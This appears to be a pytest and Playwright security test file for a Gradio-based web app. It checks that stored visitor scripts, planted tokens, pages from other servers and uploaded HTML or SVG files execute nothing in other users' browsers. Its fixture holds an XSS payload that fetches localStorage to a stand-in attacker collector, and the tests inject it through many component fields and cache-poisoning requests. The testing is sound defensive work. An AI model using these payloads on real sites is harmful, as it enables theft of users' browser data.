"""Script that a visitor left on the server, or on a server of their own, runs in nobody's page."""

import contextlib
import re
import secrets

import pytest
from playwright.sync_api import Error, Page, expect

from tests.support.raw_events import RawPage, fields
from tests.support.raw_requests import ask
from tests.support.studio_app import loopback_is_public, running_app
from tests.support.web_site import Site, body

BROTLI = {"Accept-Encoding": "gzip, deflate, br, zstd"}
"""As browsers send it."""


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    folder = tmp_path_factory.mktemp("script")
    with running_app(folder / "data", **loopback_is_public(folder / "public")) as app:
        yield app


@pytest.fixture
def site():
    """The attacker's server: where stolen values are sent, and a page that is called a clip."""
    site = Site()
    collector = f"http://127.0.0.1:{site.port}/stolen?"
    stolen = "encodeURIComponent(JSON.stringify(localStorage))"
    site.script = f'window.__owned = 1; fetch("{collector}" + {stolen})'
    evil = body(f"<title>evil</title><script>{site.script}</script>".encode(), ranges=False)
    site.pages.update({"/evil.mp4": evil, "/evil.html": evil, "/stolen": body(b"", ranges=False)})
    yield site
    site.close()


def prime(app, session: str) -> None:
    """Have the state of `session` kept under a link, and the page with that link kept as everybody's page."""
    for route in ("/gradio_api/deep_link", "/gradio_api/deep%5Flink"):
        link = re.fullmatch(r'"([\w-]+)"', ask(app.url, "GET", f"{route}?session_hash={session}").text)
        for number in range(16):
            ask(app.url, "GET", "/", {"X-Forwarded-Host": f"odd{number}.example", **BROTLI})
        for name in ("deep%5Flink", "deep_link"):
            ask(app.url, "GET", f"/?{name}={link[1] if link else session}", BROTLI)


def nothing_ran(page: Page, site) -> None:
    """The page works and all of it is built; what a script would have done has not happened."""
    for tab, shown in (("Edit", "#edit-button"), ("Compare", "#compare-prompts")):
        page.get_by_role("tab", name=tab, exact=True).first.click()
        expect(page.locator(shown)).to_be_visible()
    page.wait_for_timeout(700)
    assert page.evaluate("window.__owned") is None
    assert [path for path, _ in site.asked if path.startswith("/stolen")] == []


def test_script_that_a_visitor_had_stored_runs_in_no_other_page(app, site, new_page):
    """A dict that is given back as it came becomes a component, with the visitor's script in it."""
    attacker, session = RawPage(app.url), secrets.token_hex(6)
    script = f"<script>{site.script}</script>"
    plain = {"__type__": "update", "head": script}
    whole = {**plain, "value": "snow", "html_template": script, "js_on_load": site.script}
    events = [
        ("estimate_all", ["preview", "", plain, "", "", "", *fields()]),
        ("estimate_all", ["preview", "", *[whole] * 16]),
        ("start", [attacker.visitor, "preview", "", plain, *fields()[1:]]),
        ("edits", [plain, "", None]),
        ("edits", [attacker.visitor, whole, None]),
        ("code", ["curl", *[plain] * 12]),
        ("code", ["curl", *fields(prompt=script, references=whole)]),
        ("estimate_all", ["preview", "", *[script] * 4, *fields(prompt=script)]),
    ]
    for event, data in events:
        attacker.post(event, data, session=session, seconds=10)
    prime(app, session)
    nothing_ran(new_page(app.url), site)


def test_a_visitor_gets_no_token_that_another_one_planted(app, site, new_page):
    """Without script: a token that the attacker knows, as the one that a browser without a token takes."""
    attacker, session = RawPage(app.url), secrets.token_hex(6)
    planted = attacker.visitor
    default = {"__type__": "update", "default_value": planted, "value": planted}
    attacker.post("follow", [default, "", ""], session=session)
    prime(app, session)
    page, joined = new_page(app.url), []
    nothing_ran(page, site)

    def note(request) -> None:
        if "/queue/join" in request.url:
            joined.append(request.post_data or "")

    page.on("request", note)
    page.reload()
    nothing_ran(page, site)
    assert joined and [sent for sent in joined if planted in sent] == []


@pytest.mark.parametrize(
    "address",
    [
        "file=http://{}/evil.mp4",
        "file=http://{}/evil.html",
        "file/http://{}/evil.mp4",
        "file=%68ttp://{}/evil.mp4",
    ],
)
def test_a_page_of_another_server_is_not_shown_as_one_of_this_site(app, site, browser, address):
    page = browser.new_page()
    with contextlib.suppress(Error):  # a file to be saved ends the navigation
        page.goto(f"{app.url}/gradio_api/{address.format(f'127.0.0.1:{site.port}')}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__owned") is None and page.title() != "evil"
    assert site.asked == []
    page.context.close()


def test_an_uploaded_page_runs_nothing(app, site, browser):
    space, script = 'xmlns="http://www.w3.org/1999/xhtml"', site.script.replace("&", "&amp;")
    for name in ("a.html", "a.svg", "a.mp4", "a.txt"):
        content = f"<html {space}><script>{script}</script></html>".encode()
        path, page = RawPage(app.url).upload(name, content), browser.new_page()
        with contextlib.suppress(Error):
            page.goto(f"{app.url}/gradio_api/file={path}")
        page.wait_for_timeout(200)
        assert page.evaluate("window.__owned") is None and site.asked == [], name
        page.context.close()
